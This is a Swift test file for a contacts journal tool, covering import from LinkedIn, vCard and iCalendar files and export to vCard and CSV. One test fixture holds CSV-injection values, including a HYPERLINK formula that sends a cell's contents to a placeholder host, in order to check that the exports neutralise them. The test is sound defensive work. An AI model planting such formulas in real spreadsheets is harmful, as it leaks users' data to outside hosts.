import Authoring
import Foundation
import Index
import TestSupport
import Testing

@Suite("ties import and ties export vcard|csv, end to end")
struct ImportCommandTests {
    static let imports = Fixtures.repository.appending(path: "Tests/Fixtures/imports")

    static func copy() throws -> URL { try Fixtures.copy(Fixtures.journal("import")) }

    static func json(_ text: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
    }

    @Test func aLinkedInImportReportsAsJSONAndASecondOneChangesNothing() throws {
        let root = try Self.copy()
        let file = Self.imports.appending(path: "Connections.csv").path
        let first = try TiesBinary.run(["import", "linkedin", file, "--format", "json", "--today", "2026-12-01"], in: root)
        #expect(first.status == 0, "\(first.stderr)")
        let report = try Self.json(first.stdout)
        #expect((report["created"] as? [[String: Any]])?.map { $0["file"] as? String } == ["contacts/wei-zhang.md"])
        let updated = try #require(report["updated"] as? [[String: Any]])
        #expect(updated.map { $0["file"] as? String } == ["contacts/jonas-mueller.md", "contacts/lena.md"])
        #expect(updated[0]["fields"] as? [String] == ["met", "roles", "org", "title"])
        #expect((report["skipped"] as? [[String: Any]])?.map { $0["line"] as? Int } == [8, 11])
        #expect(report["unchanged"] as? Int == 0)

        let check = try TiesBinary.run(["check"], in: root)
        #expect(check.status == 0, "the imported journal is valid: \(check.stdout)")
        let second = try TiesBinary.run(["import", "linkedin", file, "--format", "json"], in: root)
        let again = try Self.json(second.stdout)
        #expect((again["created"] as? [Any])?.isEmpty == true && (again["updated"] as? [Any])?.isEmpty == true)
        #expect(again["unchanged"] as? Int == 3)
    }

    @Test func aDryRunWritesNothing() throws {
        let root = try Self.copy()
        let before = try Snapshot(of: root).files
        let result = try TiesBinary.run(
            ["import", "vcard", Self.imports.appending(path: "contacts.vcf").path, "--dry-run"], in: root)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.contains("Would create 4 contacts"))
        #expect(result.stdout.contains("line 38: a card with no name"))
        #expect(try Snapshot(of: root).files == before)
    }

    @Test func aFileInAnotherFormatExitsOneWithALocatedMessage() throws {
        let root = try Self.copy()
        let result = try TiesBinary.run(["import", "google", Self.imports.appending(path: "contacts.vcf").path], in: root)
        #expect(result.status == 1)
        #expect(result.stderr.contains("contacts.vcf:1:1: error: not a Google Contacts export: no header line 'First Name,"))
        #expect(try TiesBinary.run(["import", "vcard"], in: root).status == 2)
    }

    @Test func exportedCardsAreReadByVObjectAndImportBackTheSamePeople() throws {
        let source = try Fixtures.temporaryFolder("vcard-source")
        try Fixtures.write(["ties.yaml": "title: Cards\n"], under: source)
        let imported = try TiesBinary.run(["import", "vcard", Self.imports.appending(path: "contacts.vcf").path], in: source)
        #expect(imported.status == 0, "\(imported.stderr)")
        for version in ["4.0", "3.0"] {
            let cards = source.appending(path: "out-\(version).vcf")
            let export = try TiesBinary.run(["export", "vcard", "--vcard-version", version, "--output", cards.path], in: source)
            #expect(export.status == 0, "\(export.stderr)")
            let script = """
                import sys, vobject
                for card in vobject.readComponents(open(sys.argv[1], encoding="utf-8").read()):
                    print("%s|%s|%s" % (card.fn.value, card.uid.value, ",".join(sorted(e.value for e in card.contents.get("email", [])))))
                """
            if let (status, output) = try Python.run(script, arguments: [cards.path], needing: "vobject") {
                #expect(status == 0, "vobject could not read the \(version) cards")
                #expect(output.contains("Ada Lovelace|urn:uuid:"))
                #expect(output.contains("田中 宏|"))
            } else {
                Issue.record("python3-vobject is missing: run make test, which installs it")
            }
            let target = try Fixtures.temporaryFolder("vcard-target")
            try Fixtures.write(["ties.yaml": "title: Cards\n"], under: target)
            #expect(try TiesBinary.run(["import", "vcard", cards.path], in: target).status == 0)
            let original = Journal.load(from: source)
            let copy = Journal.load(from: target)
            #expect(copy.contacts.map(\.slug) == original.contacts.map(\.slug))
            for contact in original.contacts {
                let back = try #require(copy.contacts[contact.id])
                #expect(back.name == contact.name && back.emails == contact.emails && back.phones == contact.phones)
                #expect(back.links == contact.links && back.birthday == contact.birthday && back.tags == contact.tags)
                #expect(back.org?.text == contact.org?.text && back.title == contact.title, "\(contact.name), vCard \(version)")
            }
        }
    }

    /// A tag is one category, whatever characters it holds: the list is split only at the
    /// commas between tags (a comma or space inside a journal's tag text already separates tags).
    @Test func everyTagIsOneCategoryOfTheExportedCard() throws {
        let root = try Fixtures.temporaryFolder("vcard-tags")
        defer { try? FileManager.default.removeItem(at: root) }
        try Fixtures.write(
            [
                "ties.yaml": "title: Cards\n",
                "contacts/zed-zulu.md": "---\nname: Zed Zulu\ntags: [\"Sales, EMEA\", \"x;y\", 'back\\slash', \"#q:r\"]\n---\n",
            ], under: root)
        let tags = try #require(Journal.load(from: root).contacts.first).tags
        #expect(tags == ["Sales", "EMEA", "x;y", #"back\slash"#, "q:r"])
        let cards = root.appending(path: "cards.vcf")
        #expect(try TiesBinary.run(["export", "vcard", "--output", cards.path], in: root).status == 0)
        let text = try String(contentsOf: cards, encoding: .utf8)
        #expect(text.contains(#"CATEGORIES:Sales,EMEA,x\;y,back\\slash,q:r"#), "\(text)")
        let script = """
            import sys, vobject
            for card in vobject.readComponents(open(sys.argv[1], encoding="utf-8").read()):
                print("|".join(card.categories.value))
            """
        if let (status, output) = try Python.run(script, arguments: [cards.path], needing: "vobject") {
            #expect(status == 0)
            #expect(output == tags.joined(separator: "|") + "\n", "vobject reads the tags as they are")
        }
        let copy = try Fixtures.temporaryFolder("vcard-tags-back")
        defer { try? FileManager.default.removeItem(at: copy) }
        try Fixtures.write(["ties.yaml": "title: Cards\n"], under: copy)
        #expect(try TiesBinary.run(["import", "vcard", cards.path], in: copy).status == 0)
        #expect(Journal.load(from: copy).contacts.first?.tags == tags, "and ties' own import too")
    }

    @Test func aCalendarGivesEncountersOnceAndCountsStrangers() throws {
        let root = try Self.copy()
        let calendar = Self.imports.appending(path: "calendar.ics").path
        let first = try TiesBinary.run(["import", "ics", calendar, "--today", "2026-12-01", "--format", "json"], in: root)
        #expect(first.status == 0, "\(first.stderr)")
        let report = try Self.json(first.stdout)
        #expect((report["created"] as? [Any])?.count == 5 && report["no_known_attendee"] as? Int == 1)
        #expect((report["skipped"] as? [[String: Any]])?.map { $0["line"] as? Int } == [36, 43, 62])
        #expect(try TiesBinary.run(["check"], in: root).status == 0)
        let second = try Self.json(
            try TiesBinary.run(["import", "ics", calendar, "--today", "2026-12-01", "--format", "json"], in: root).stdout)
        #expect((second["created"] as? [Any])?.isEmpty == true && second["unchanged"] as? Int == 5)
        let wrong = try TiesBinary.run(["import", "ics", Self.imports.appending(path: "Connections.csv").path], in: root)
        #expect(wrong.status == 1 && wrong.stderr.contains("Connections.csv:1:1: error: not an iCalendar file"))
    }

    @Test func aSpreadsheetOfEveryContact() throws {
        let result = try TiesBinary.run(["export", "csv"], in: Fixtures.template)
        #expect(result.status == 0, "\(result.stderr)")
        let lines = result.stdout.components(separatedBy: "\r\n")
        #expect(lines.first == "name,org,title,emails,phones,circle,last contact,next due,tags")
        #expect(lines.contains { $0.hasPrefix("Jonas Müller,") })
    }

    /// Names and orgs come from imported files: a cell a spreadsheet would run as a formula
    /// is written as text (OWASP's advice on CSV injection), in both CSV exports.
    @Test func noCellIsAFormula() throws {
        let root = try Fixtures.copy(Fixtures.template)
        try Fixtures.write(
            [
                "contacts/evil.md":
                    "---\nname: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"hi\\\")\"\norg: \"+cmd\"\ntitle: \"@SUM(1)\"\nphones: [\"-1+1\"]\n---\n",
                "publications/evil.md": "---\ntitle: \"=1+1\"\nstatus: idea\n---\n",
            ], under: root)
        let sheet = try TiesBinary.run(["export", "csv"], in: root).stdout
        let row = try #require(sheet.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") })
        #expect(row.hasPrefix("\"'=HYPERLINK(") && row.contains(",'+cmd,'@SUM(1),") && row.contains(",'-1+1,"), "\(row)")
        let pubs = try TiesBinary.run(["pubs", "--format", "csv"], in: root).stdout
        #expect(pubs.contains(",'=1+1,") && !pubs.contains(",=1+1,"), "\(pubs)")
    }
}
